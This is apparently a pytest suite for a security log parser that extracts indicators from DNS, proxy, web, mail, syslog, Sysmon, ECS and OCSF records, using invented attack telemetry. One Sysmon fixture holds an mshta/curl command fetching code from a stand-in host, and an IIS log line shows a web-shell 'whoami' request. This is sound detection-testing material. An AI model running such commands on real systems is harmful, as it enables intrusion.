"""Formats beyond Zeek and Suricata: what each line is, when it was, and what an indicator could name in it."""

# ruff: noqa: E501 (lines of logs stand as they are)

import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mithaq.kernel.lane import ACTUAL
from mithaq.telemetry.errors import BadLine
from mithaq.telemetry.model import Event, Format, Source
from mithaq.telemetry.parsers.line import LineParser
from mithaq.telemetry.vocabulary import ECS_NAMES, ecs_fields

AT = datetime(2026, 11, 28, 2, 0, tzinfo=UTC)
MD5, SHA1, SHA256 = "98321825F06128D24ADE15AA703E193F", "9B0C636DF33BDE21F986279911E0FB03C96EE357", "A" * 64

BIND = b"28-Nov-2026 01:39:47.123 queries: info: client @0x7f10c4 192.0.2.7#53421 (x.evil.example): query: x.evil.example IN A +E(0)K (10.0.0.53)"
BIND_SYSLOG = b"Nov 28 01:39:47 ns1 named[811]: client 2001:db8::7#53421 (evil.example): view inside: query: evil.example IN AAAA + (10.0.0.53)"
SQUID = b"1764293987.512    180 10.0.0.9 TCP_MISS/200 4310 GET http://evil.example/a.exe?x=1 - HIER_DIRECT/192.0.2.1 application/x-msdownload"
SQUID_TUNNEL = (
    b"1764293987.512  60180 10.0.0.9 TCP_TUNNEL/200 8310 CONNECT c2.evil.example:443 alice HIER_DIRECT/192.0.2.1 -"
)
COMBINED = b'10.0.0.9 - bob [28/Nov/2026:03:39:47 +0200] "GET http://evil.example/x HTTP/1.1" 404 12 "http://ref.example/" "Mozilla/5.0 \\"x\\""'
VHOST = b'www.evil.example:443 203.0.113.9 - - [28/Nov/2026:01:39:47 +0000] "POST /gate.php?id=7 HTTP/2.0" 200 - "-" "curl/8"'
TLS_HELLO = b'203.0.113.9 - - [28/Nov/2026:01:39:47 +0000] "\\x16\\x03\\x01" 400 226 "-" "-"'
POSTFIX = b"Nov 28 01:39:47 mx1 postfix/smtpd[123]: 4F2A11234: client=mail.evil.example[192.0.2.25], sasl_username=bob"
POSTFIX_REJECT = b"2026-11-28T01:39:47.123456+00:00 mx1 postfix/smtpd[9]: NOQUEUE: reject: RCPT from unknown[192.0.2.25]: 554 5.7.1 refused; from=<a@evil.example> to=<b@home.example> proto=ESMTP helo=<helo.evil.example>"
EXIM = b'2026-11-28 01:39:47 1aBcDe-0003Gh-2J <= a@evil.example H=mail.evil.example (helo.evil.example) [192.0.2.25]:4711 I=[10.0.0.2]:25 P=esmtps S=1234 id=q@evil.example T="Your invoice" for b@home.example c@home.example'
EXIM_OUT = b'2026-11-28 03:39:47 +0200 [77] 1aBcDe-0003Gh-2J => b@home.example R=dnslookup T=remote_smtp H=mx.evil.example [192.0.2.26] C="250 OK"'
IPTABLES = (
    b"<4>Nov 28 01:39:47 gw kernel: [123.4] DROP IN=eth0 SRC=192.0.2.1 DST=198.51.100.7 PROTO=TCP SPT=4711 DPT=443"
)
RFC5424 = b'<165>1 2026-11-28T03:39:47.003+02:00 host.home.example app 77 ID47 [x@1 url="http://evil.example/]" k="\\"q"][y@1 ip="192.0.2.9"] hello'
WRAPPED = b'<134>1 2026-11-28T01:39:47Z fw eve - - - @cee: {"event_type":"dns","timestamp":"2026-11-28T01:39:47Z","rrname":"evil.example"}'

SYSMON = {
    "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "TimeCreated": "2026-11-28T01:39:47.000Z",
    "@timestamp": "2026-11-28T05:00:00Z",
    "Hostname": "WS5.home.example",
    "Image": "C:\\Windows\\mshta.exe",
    "CommandLine": 'mshta.exe "http://evil.example/a.hta" & curl HTTPS://CDN.Evil.Example/b.',
    "Hashes": f"SHA1={SHA1},MD5={MD5},SHA256={SHA256},IMPHASH=1CF27DAF6490453338CA3A6A3792FBBF",
    "QueryName": "c2.evil.example",
    "QueryResults": "type:  5 cdn2.evil.example;::ffff:192.0.2.1;2001:db8::1;",
}
SYSMON_FOUND = {
    *("domain:ws5.home.example", "url:http://evil.example/a.hta", "domain:evil.example"),
    *("url:https://cdn.evil.example/b", "domain:cdn.evil.example", "domain:c2.evil.example"),
    *("domain:cdn2.evil.example", "ipv4:192.0.2.1", "ipv6:2001:db8::1"),
    *(f"sha1:{SHA1.lower()}", f"md5:{MD5.lower()}", f"sha256:{SHA256.lower()}"),
}
WINLOGBEAT = {
    "@timestamp": "2026-11-28T01:39:47.000Z",
    "ecs": {"version": "8.0.0"},
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "event_id": "3",
        "event_data": {"DestinationIp": "192.0.2.1", "DestinationHostname": "evil.example", "Hashes": f"MD5={MD5}"},
    },
    "host": {"name": "ws5"},
}
ECS = {
    "@timestamp": "2026-11-28T01:39:47Z",
    "event": {"dataset": "zeek.ssl", "kind": "event"},
    "source": {"ip": "10.0.0.9"},
    "dns": {"question": {"name": "evil.example"}, "answers": [{"data": "cdn.evil.example", "type": "CNAME"}]},
    "url": {"domain": "evil.example", "path": "/a", "scheme": "https"},
    "file": {"hash": {"sha256": "b" * 64}},
    "tls": {
        "client": {"ja3": MD5, "ja4": "t13d1516h2_8daaf6152771_e5627efa2ab1", "hash": {"sha1": SHA1}},
        "server": {"ja3s": "0" * 32},
    },
}
OCSF = {
    "class_uid": 4003,
    "class_name": "DNS Activity",
    "category_uid": 4,
    "metadata": {"version": "1.3.0"},
    "time": 1795829987000,
    "query": {"hostname": "evil.example", "type": "A"},
    "answers": [{"rdata": "192.0.2.1"}, {"rdata": "cdn.evil.example"}],
    "src_endpoint": {"ip": "10.0.0.9"},
    "tls": {"ja3_hash": {"value": MD5, "algorithm_id": 1}, "certificate": {"fingerprints": [{"value": SHA1}]}},
    "file": {"hashes": [{"algorithm": "SHA-256", "value": SHA256}]},
}
DNSTAP = {
    "type": "MESSAGE",
    "identity": "ns1",
    "message": {
        "type": "CLIENT_RESPONSE",
        "response_time": "2026-11-28T01:39:47.123456789Z",
        "query_address": "10.0.0.9",
        "response_message": ";; opcode: QUERY, status: NOERROR, id: 7\n\n;; QUESTION SECTION:\n;evil.example.\tIN\t A\n\n"
        ";; ANSWER SECTION:\nevil.example.\t300\tIN\tCNAME\tcdn.evil.example.\ncdn.evil.example.\t60\tIN\tA\t192.0.2.1\n",
    },
}
COLLECTOR = {
    "network": {"query-ip": "10.0.0.9", "protocol": "UDP"},
    "dns": {
        "qname": "evil.example",
        "resource-records": {"an": [{"name": "evil.example", "rdatatype": "A", "rdata": "192.0.2.1"}]},
    },
    "dnstap": {"operation": "CLIENT_RESPONSE", "timestamp-rfc3339ns": "2026-11-28T01:39:47.12Z", "identity": "ns1"},
}
VECTOR = {
    "dataType": "Message",
    "messageType": "ClientResponse",
    "time": 1795829987123456789,
    "timestamp": "2026-11-28T01:39:47.123456789Z",
    "sourceAddress": "10.0.0.9",
    "requestData": {"question": [{"domainName": "evil.example.", "questionType": "A"}]},
    "responseData": {"answers": [{"domainName": "evil.example.", "rData": "192.0.2.1", "recordType": "A"}]},
}


def parse(line: bytes, line_format: Format = Format.AUTO) -> Event:
    event = LineParser(Source("s", "", line_format, ACTUAL)).parse(line, 0, AT)
    assert event is not None
    assert event.raw == line
    return event


def found(event: Event) -> set[str]:
    return {str(observable) for _, observable in event.observables}


def encoded(record: object) -> bytes:
    return msgspec.json.encode(record)


@pytest.mark.parametrize(
    ("line", "line_format", "kind", "values"),
    [
        (encoded(SYSMON), Format.WINDOWS, "windows.sysmon", SYSMON_FOUND),
        (
            encoded(
                {"Event": {"System": {"Channel": "Security", "EventID": 4624}, "EventData": {"IpAddress": "192.0.2.1"}}}
            ),
            Format.WINDOWS,
            "windows.security",
            {"ipv4:192.0.2.1"},
        ),
        (
            encoded(WINLOGBEAT),
            Format.ECS,
            "windows.sysmon",
            {"ipv4:192.0.2.1", "domain:evil.example", f"md5:{MD5.lower()}"},
        ),
        (
            encoded(ECS),
            Format.ECS,
            "ecs.zeek.ssl",
            {
                *("ipv4:10.0.0.9", "domain:evil.example", "domain:cdn.evil.example", "url:https://evil.example/a"),
                *("sha256:" + "b" * 64, f"ja3:{MD5.lower()}", f"sha1:{SHA1.lower()}"),
                "ja4:t13d1516h2_8daaf6152771_e5627efa2ab1",
            },
        ),
        (
            encoded(OCSF),
            Format.OCSF,
            "ocsf.dns-activity",
            {
                *("domain:evil.example", "ipv4:192.0.2.1", "domain:cdn.evil.example", "ipv4:10.0.0.9"),
                *(f"ja3:{MD5.lower()}", f"sha1:{SHA1.lower()}", f"sha256:{SHA256.lower()}"),
            },
        ),
        (
            encoded(DNSTAP),
            Format.DNSTAP,
            "dns.dnstap",
            {"ipv4:10.0.0.9", "domain:evil.example", "domain:cdn.evil.example", "ipv4:192.0.2.1"},
        ),
        (encoded(COLLECTOR), Format.DNSTAP, "dns.dnstap", {"ipv4:10.0.0.9", "domain:evil.example", "ipv4:192.0.2.1"}),
        (encoded(VECTOR), Format.DNSTAP, "dns.dnstap", {"ipv4:10.0.0.9", "domain:evil.example", "ipv4:192.0.2.1"}),
        (BIND, Format.BIND, "dns.bind", {"ipv4:192.0.2.7", "domain:x.evil.example", "ipv4:10.0.0.53"}),
        (BIND_SYSLOG, Format.BIND, "dns.bind", {"ipv6:2001:db8::7", "domain:evil.example", "ipv4:10.0.0.53"}),
        (
            SQUID,
            Format.SQUID,
            "proxy.squid",
            {"ipv4:10.0.0.9", "url:http://evil.example/a.exe?x=1", "domain:evil.example", "ipv4:192.0.2.1"},
        ),
        (SQUID_TUNNEL, Format.SQUID, "proxy.squid", {"ipv4:10.0.0.9", "domain:c2.evil.example", "ipv4:192.0.2.1"}),
        (
            COMBINED,
            Format.COMBINED,
            "web.combined",
            {
                *("ipv4:10.0.0.9", "url:http://evil.example/x", "domain:evil.example"),
                *("url:http://ref.example/", "domain:ref.example"),
            },
        ),
        (
            VHOST,
            Format.COMBINED,
            "web.combined",
            {"ipv4:203.0.113.9", "domain:www.evil.example", "url:http://www.evil.example/gate.php?id=7"},
        ),
        (TLS_HELLO, Format.COMBINED, "web.combined", {"ipv4:203.0.113.9"}),
        (POSTFIX, Format.POSTFIX, "mail.postfix", {"ipv4:192.0.2.25", "domain:mail.evil.example"}),
        (
            POSTFIX_REJECT,
            Format.POSTFIX,
            "mail.postfix",
            {
                *("ipv4:192.0.2.25", "email:a@evil.example", "domain:evil.example", "domain:helo.evil.example"),
                *("email:b@home.example", "domain:home.example"),
            },
        ),
        (
            EXIM,
            Format.EXIM,
            "mail.exim",
            {
                *("ipv4:192.0.2.25", "domain:mail.evil.example", "domain:helo.evil.example", "email:a@evil.example"),
                *("email:b@home.example", "email:c@home.example", "domain:home.example", "domain:evil.example"),
                "email:q@evil.example",
            },
        ),
        (
            EXIM_OUT,
            Format.EXIM,
            "mail.exim",
            {"ipv4:192.0.2.26", "domain:mx.evil.example", "email:b@home.example", "domain:home.example"},
        ),
        (IPTABLES, Format.SYSLOG, "syslog", {"ipv4:192.0.2.1", "ipv4:198.51.100.7"}),
        (
            RFC5424,
            Format.SYSLOG,
            "syslog",
            {"domain:host.home.example", "url:http://evil.example/]", "domain:evil.example", "ipv4:192.0.2.9"},
        ),
        (WRAPPED, Format.SURICATA_EVE, "suricata.dns", {"domain:evil.example"}),
    ],
)
def test_a_line_is_recognised_and_everything_in_it_is_found(
    line: bytes, line_format: Format, kind: str, values: set[str]
) -> None:
    for declared in (Format.AUTO, line_format):
        event = parse(line, declared)
        assert (event.kind, found(event)) == (kind, values)
    if b"1764293987" not in line and b"4624" not in line:
        assert event.at.replace(microsecond=0) == datetime(2026, 11, 28, 1, 39, 47, tzinfo=UTC)


@pytest.mark.parametrize(
    ("line_format", "line"),
    [
        (Format.BIND, SQUID),
        (Format.SQUID, COMBINED),
        (Format.COMBINED, BIND),
        (Format.EXIM, POSTFIX),
        (Format.POSTFIX, IPTABLES),
        (Format.SYSLOG, b"no header at all"),
        (Format.WINDOWS, encoded(ECS)),
        (Format.ECS, encoded(OCSF)),
        (Format.OCSF, encoded(SYSMON)),
        (Format.DNSTAP, encoded(ECS)),
        (Format.W3C, b"2026-11-28 01:39:47 10.0.0.9"),
        (Format.SURICATA_EVE, BIND),
    ],
)
def test_another_format_than_the_declared_one_is_a_broken_line(line_format: Format, line: bytes) -> None:
    with pytest.raises(BadLine):
        parse(line, line_format)


W3C = b"""#Software: Microsoft Internet Information Services 10.0
#Version: 1.0
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) cs-host sc-status
2026-11-28 01:39:47 10.0.0.80 GET /shell.aspx cmd=whoami 80 203.0.113.9 Mozilla/5.0+(x) www.evil.example 200
#Fields: date time c-ip cs-uri "quoted
2026-11-28 01:39:48 203.0.113.9 http://evil.example/a "two words"
"""


def test_a_w3c_log_follows_its_newest_fields_and_survives_a_restart() -> None:
    source = Source("s", "", Format.AUTO, ACTUAL)
    reader, events, state = LineParser(source), [], b""
    for number, line in enumerate(W3C.splitlines()):
        reader = LineParser(source, state=state) if number in {3, 5} else reader
        event = reader.parse(line, number, AT)
        events += [event] if event else []
        state = reader.state
    assert [event.kind for event in events] == ["web.w3c", "web.w3c"]
    assert events[0].at == datetime(2026, 11, 28, 1, 39, 47, tzinfo=UTC)
    assert {
        *("ipv4:203.0.113.9", "ipv4:10.0.0.80", "domain:www.evil.example"),
        "url:http://www.evil.example/shell.aspx?cmd=whoami",
    } <= found(events[0])
    assert "url:http://evil.example/a" in found(events[1])
    with pytest.raises(BadLine, match="2 fields, its header names 5"):
        reader.parse(b"2026-11-28 01:39:49", 0, AT)


def test_a_w3c_header_ends_a_zeek_header_and_the_other_way_round() -> None:
    reader = LineParser(Source("s", "", Format.AUTO, ACTUAL))
    for line in (b"#separator \\x09", b"#path\tconn", b"#fields\tts\tid.orig_h", b"#Fields: c-ip cs-method"):
        reader.parse(line, 0, AT)
    event = reader.parse(b"192.0.2.1 GET", 0, AT)
    assert event and event.kind == "web.w3c"
    for line in (b"#separator \\x09", b"#path\tconn", b"#fields\tts\tid.orig_h"):
        reader.parse(line, 0, AT)
    event = reader.parse(b"1.5\t192.0.2.1", 0, AT)
    assert event and event.kind == "zeek.conn"


def test_a_clock_without_a_year_is_never_far_ahead() -> None:
    new_year = datetime(2027, 1, 1, 0, 5, tzinfo=UTC)
    reader = LineParser(Source("s", "", Format.SYSLOG, ACTUAL))
    event = reader.parse(b"<4>Dec 31 23:59:59 gw kernel: x", 0, new_year)
    assert event and event.at == datetime(2026, 12, 31, 23, 59, 59, tzinfo=UTC)
    event = reader.parse(b"<4>Jan  1 00:06:00 gw kernel: x", 0, new_year)
    assert event and event.at == datetime(2027, 1, 1, 0, 6, tzinfo=UTC)


def test_an_event_from_the_future_keeps_its_own_time() -> None:
    event = parse(b'{"@timestamp":"2199-01-01T00:00:00Z","query":"evil.example"}')
    assert event.at.year == 2199


@pytest.mark.parametrize(
    "line",
    [
        b"\0" * 500 + encoded(SYSMON),
        BIND.replace(b"+E(0)K", b"+E(0)K\xff\xfe\0"),
        COMBINED.replace(b"Mozilla", b"\xff\x00Mozilla"),
    ],
)
def test_nul_bytes_and_bytes_that_are_no_utf8_do_not_cost_a_text_line(line: bytes) -> None:
    assert parse(line).kind in {"windows.sysmon", "dns.bind", "web.combined"}


@pytest.mark.parametrize(
    "line", [encoded(SYSMON).replace(b"mshta", b"\xff"), b'{"EventID":1,"Channel":' + b"[" * 90_000]
)
def test_json_that_is_none_says_so(line: bytes) -> None:
    with pytest.raises(BadLine, match="not valid JSON"):
        parse(line)


HOSTILE = (
    b'1.1.1.1 - - [28/Nov/2026:01:39:47 +0000] "' + b"\\" * 1_000_000,
    b"a" * 1_000_000,
    b"<1>" + b"a=[" * 300_000,
    b"2026-11-28 01:39:47 1aBcDe-0003Gh-2J <= " + b"a@b for " * 120_000,
    b"Nov 28 01:39:47 mx1 postfix/smtpd[1]: " + b",a" * 500_000,
    b"<1>1 - - - - - [" + b'a="\\"' * 200_000,
    b"28-Nov-2026 01:39:47.1 client 1.1.1.1#1 (" + b"a" * 1_000_000,
    b"1764293987.512 1 " + b"a " * 500_000,
    encoded({**SYSMON, "CommandLine": "http://" * 140_000, "Hashes": "MD5=," * 100_000, "QueryResults": ";" * 900_000}),
)


@pytest.mark.parametrize("line", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_line_of_a_million_bytes_ends(line: bytes) -> None:
    """Anything quadratic in the line's length would take hours here."""
    try:
        event = parse(line)
    except BadLine:
        return
    assert len(event.observables) < 2_000


@given(st.binary(max_size=300))
def test_any_bytes_are_an_event_or_a_broken_line(noise: bytes) -> None:
    for line in (noise, BIND[:60] + noise, b"<13>" + noise, POSTFIX[:40] + noise, b'{"EventID":1,"Channel":"' + noise):
        try:
            LineParser(Source("s", "", Format.AUTO, ACTUAL)).parse(line.replace(b"\n", b""), 0, AT)
        except BadLine as error:
            assert str(error)


# -- real data ------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def windows_lines(data_dir: Path) -> list[bytes]:
    archives = sorted((data_dir / "telemetry" / "windows-atomic").glob("*.zip"))
    return [line for path in archives for line in _lines_of(path, most=400)]


def _lines_of(path: Path, most: int) -> Iterator[bytes]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".json") and not name.startswith("__MACOSX"):
                with archive.open(name) as file:
                    for _, line in zip(range(most), file, strict=False):
                        yield line.rstrip(b"\r\n")


def test_the_windows_sets_are_read_whole_under_auto_and_declared(windows_lines: list[bytes]) -> None:
    kinds: Counter[str] = Counter()
    for line_format in (Format.AUTO, Format.WINDOWS):
        reader = LineParser(Source("s", "", line_format, ACTUAL))
        for place, line in enumerate(windows_lines):
            event = reader.parse(line, place, AT)
            assert event is not None
            kinds[event.kind] += 1
    assert sum(kinds.values()) == 2 * len(windows_lines) > 10_000
    assert set(kinds) >= {"windows.sysmon", "windows.security", "windows.powershell"}
    assert all(kind.startswith("windows.") for kind in kinds)


def test_every_hash_of_sysmon_in_the_sets_is_found(windows_lines: list[bytes]) -> None:
    looked = 0
    for place, line in enumerate(windows_lines):
        hashes = msgspec.json.decode(line).get("Hashes")
        if not isinstance(hashes, str):
            continue
        event = LineParser(Source("s", "", Format.AUTO, ACTUAL)).parse(line, place, AT)
        assert event is not None
        listed = dict(part.lower().split("=") for part in hashes.split(","))
        wanted = {f"{name}:{listed[name]}" for name in ("md5", "sha1", "sha256") if name in listed}
        assert wanted <= found(event)
        looked += 1
    assert looked > 500


def test_one_vocabulary_names_the_same_thing_in_every_sensor() -> None:
    def ecs(line: bytes) -> dict[str, str]:
        decoded = LineParser(Source("s", "", Format.AUTO, ACTUAL)).decode(line, AT)
        assert decoded is not None
        fields = ecs_fields(decoded.kind, decoded.record)
        assert set(fields) <= set(ECS_NAMES)
        return fields

    zeek = b'{"_path":"dns","ts":1,"uid":"C","id.orig_h":"10.0.0.9","query":"evil.example"}'
    eve = b'{"event_type":"dns","timestamp":"2026-11-28T01:39:47Z","src_ip":"10.0.0.9","dns":{"rrname":"evil.example"}}'
    asked = [ecs(line) for line in (zeek, eve, encoded(OCSF), encoded(COLLECTOR), encoded(ECS))]
    assert {(each["source.ip"], each["dns.question.name"]) for each in asked} == {("10.0.0.9", "evil.example")}
    sysmon = ecs(encoded(SYSMON))
    assert sysmon["process.executable"] == "C:\\Windows\\mshta.exe"
    assert (sysmon["file.hash.md5"], sysmon["event.code"], sysmon["host.name"]) == (
        MD5.lower(),
        "1",
        "WS5.home.example",
    )
    assert ecs(encoded(WINLOGBEAT))["destination.ip"] == "192.0.2.1"
    assert ecs(SQUID)["url.full"] == "http://evil.example/a.exe?x=1"
    assert (ecs(EXIM)["email.from.address"], ecs(EXIM)["email.subject"]) == ("a@evil.example", "Your invoice")
    assert (ecs(IPTABLES)["source.ip"], ecs(IPTABLES)["destination.port"]) == ("192.0.2.1", "443")
